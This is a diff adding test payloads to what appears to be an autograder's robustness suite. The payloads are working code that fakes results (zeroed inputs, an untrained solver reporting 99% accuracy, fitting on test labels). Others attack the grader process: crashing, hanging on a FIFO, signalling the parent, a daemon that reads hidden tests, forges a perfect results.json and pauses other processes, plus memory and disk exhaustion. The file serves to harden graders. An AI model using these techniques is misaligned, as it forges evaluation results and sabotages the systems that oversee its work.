@@ -171,3 +171,197 @@ if _sys.argv and _sys.argv[0].endswith('_grade_runner.py'):
             _h.write('{"metrics": ')
     _atexit.register(_break)
 """
+
+
+# ------------------------------------------------------- issue 22's attacks ---
+# Appended to an assignment file of the reference: each replaces a function with a wrong one
+# that a grader trusting its inputs, callbacks or reports would pass.
+
+# ReLU.backward zeroes the dout it is given and answers zeros: a check computing its expected
+# value from dout after the call would agree.
+ZERO_THE_INPUTS = """
+
+def _zeroing_relu_backward(dout, cache):
+    dout.zero_()
+    return torch.zeros_like(cache)
+
+
+ReLU.backward = staticmethod(_zeroing_relu_backward)
+"""
+
+# cross_validate pairs rows with the wrong labels and hides the check's complaint.
+CATCH_THE_CHECKS = """
+
+def cross_validate(fit_and_score, X, y, k=5, *, seed=0):
+    scores = torch.empty(k, dtype=torch.float64)
+    for fold, (train_idx, val_idx) in enumerate(k_fold_indices(X.shape[0], k, seed=seed)):
+        try:
+            scores[fold] = float(fit_and_score(X[train_idx], y[train_idx.flip(0)], X[val_idx],
+                                               y[val_idx]))
+        except AssertionError:
+            scores[fold] = float(len(val_idx))
+    return scores
+"""
+
+# A Solver that never trained, reporting a high validation accuracy and a loss history of
+# the right length.
+SELF_REPORTED = """
+
+def _untrained_solver(model, data_dict, num_epochs):
+    solver = Solver(model, data_dict, update_rule=sgd, num_epochs=num_epochs, verbose=False)
+    per_epoch = max(data_dict["X_train"].shape[0] // solver.batch_size, 1)
+    solver.best_val_acc, solver.epoch = 0.99, num_epochs
+    solver.loss_history = [2.3] * (num_epochs * per_epoch)  # as long as a real run's
+    return solver
+
+
+def create_solver_instance(data_dict, dtype, device):
+    return _untrained_solver(TwoLayerNet(dtype=dtype, device=device), data_dict, 10)
+
+
+def train_best_fc_net(data_dict, dtype, device, num_epochs):
+    return _untrained_solver(FullyConnectedNet([100], dtype=dtype, device=device), data_dict,
+                             num_epochs)
+"""
+
+# A warning whose file is a FIFO in the scratch folder: opening it blocks until a writer comes.
+FIFO_WARNING = """
+
+import os as _os
+import warnings as _warnings
+
+_FIFO = _os.path.join(_os.environ.get("HOME", "."), "warning.py")
+if not _os.path.exists(_FIFO):
+    _os.mkfifo(_FIFO)
+_accuracy = accuracy
+
+
+def accuracy(y_pred, y_true):
+    _warnings.warn_explicit("look at my source", UserWarning, _FIFO, 1)
+    return _accuracy(y_pred, y_true)
+"""
+
+# Every function and method of the module ends the worker.
+CRASH_LOOP = """
+
+import inspect as _inspect
+import os as _os
+
+
+def _crash(*_args, **_kwargs):
+    _os._exit(1)
+
+
+for _name, _value in list(globals().items()):
+    if _inspect.isfunction(_value) and _value.__module__ == __name__:
+        globals()[_name] = _crash
+    elif _inspect.isclass(_value) and _value.__module__ == __name__:
+        for _attribute, _member in list(vars(_value).items()):
+            if isinstance(_member, staticmethod):
+                setattr(_value, _attribute, staticmethod(_crash))
+            elif _inspect.isfunction(_member):
+                setattr(_value, _attribute, _crash)
+"""
+
+# Sends SIGINT to its parent at import: without a sandbox, the trusted process of the checks.
+INTERRUPT_THE_GRADER = """
+
+import os as _os
+import signal as _signal
+
+if _os.environ.get("KIT_GRADE_BLOCK_NETWORK") == "1":  # only while graded without a sandbox
+    _os.kill(_os.getppid(), _signal.SIGINT)
+"""
+
+
+def fit_on_test_split(path):
+    """Replace the linear model saved at ``path`` with one fitted by least squares to the
+    CIFAR-10 test images and labels (no training at all)."""
+    from helpers.data import preprocess_cifar10
+
+    data = preprocess_cifar10(bias_trick=True, dtype=torch.float64, device="cpu")
+    targets = torch.nn.functional.one_hot(data["y_test"], 10).to(torch.float64)
+    X = data["X_test"]
+    W = torch.linalg.solve(X.T @ X + 1e-3 * torch.eye(X.shape[1], dtype=X.dtype), X.T @ targets)
+    checkpoint = torch.load(path, weights_only=True)
+    checkpoint["params"]["W"] = W.to(checkpoint["params"]["W"].dtype).contiguous()
+    torch.save(checkpoint, path)
+
+
+def results_daemon(root, report):
+    """At import, a ``setsid`` daemon that reads the autograder's source, writes results.json,
+    stops every process it can signal (the supervisor, when the worker runs as root) and keeps
+    rewriting the results; what it managed goes to ``report`` (a JSON file)."""
+    daemon = f"""
+import json, os, pathlib, signal, time
+root = pathlib.Path({str(root)!r})
+seen = {{}}
+for name, path in (("rubric", root / "source" / "instructor" / "rubric.json"),
+                   ("hidden", root / "source" / "instructor" / "tests" / "hidden")):
+    try:
+        seen[name] = len(path.read_text()) if path.is_file() else len(os.listdir(path))
+    except OSError as err:
+        seen[name] = type(err).__name__
+forged = json.dumps({{"score": 100.0, "output": "forged", "tests": []}})
+try:
+    (root / "results" / "results.json").write_text(forged)
+    seen["results"] = "written"
+except OSError as err:
+    seen["results"] = type(err).__name__
+stopped = 0
+for pid in os.listdir("/proc"):  # another user's processes: the grader's
+    try:
+        if not pid.isdigit() or os.stat(f"/proc/{{pid}}").st_uid == os.getuid():
+            continue
+        os.kill(int(pid), signal.SIGSTOP)
+        os.kill(int(pid), signal.SIGCONT)
+        stopped += 1
+    except OSError:
+        pass
+seen["signalled"] = stopped
+pathlib.Path({str(report)!r}).write_text(json.dumps(seen))
+while True:
+    try:
+        (root / "results" / "results.json").write_text(forged)
+    except OSError:
+        pass
+    time.sleep(0.2)
+"""
+    return f"""
+
+import os as _os, subprocess as _sp, sys as _sys
+if not _os.environ.get("KIT_DAEMON_STARTED"):
+    _os.environ["KIT_DAEMON_STARTED"] = "1"
+    _sp.Popen([_sys.executable, "-c", {daemon!r}], start_new_session=True,
+              stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
+"""
+
+# precision_recall (which no other function calls) starts five processes of 1 GB each, each
+# under the per-process limit.
+MEMORY_TREE = """
+
+import subprocess as _sp
+import sys as _sys
+import time as _time
+
+
+def precision_recall(y_true, y_pred, num_classes):
+    hogs = [_sp.Popen([_sys.executable, "-c", "import time; b = b'x' * 2**30; time.sleep(120)"])
+            for _ in range(5)]
+    _time.sleep(60)
+    return hogs
+"""
+
+# svm_get_search_params fills the scratch folder with files under the file-size limit.
+SCRATCH_FILLER = """
+
+import os as _os
+
+
+def svm_get_search_params():
+    block = b"x" * (32 << 20)
+    for index in range(100):
+        with open(_os.path.join(_os.environ.get("HOME", "."), f"fill{index}.bin"), "wb") as f:
+            f.write(block)
+    return [1e-7], [1e4]
+"""
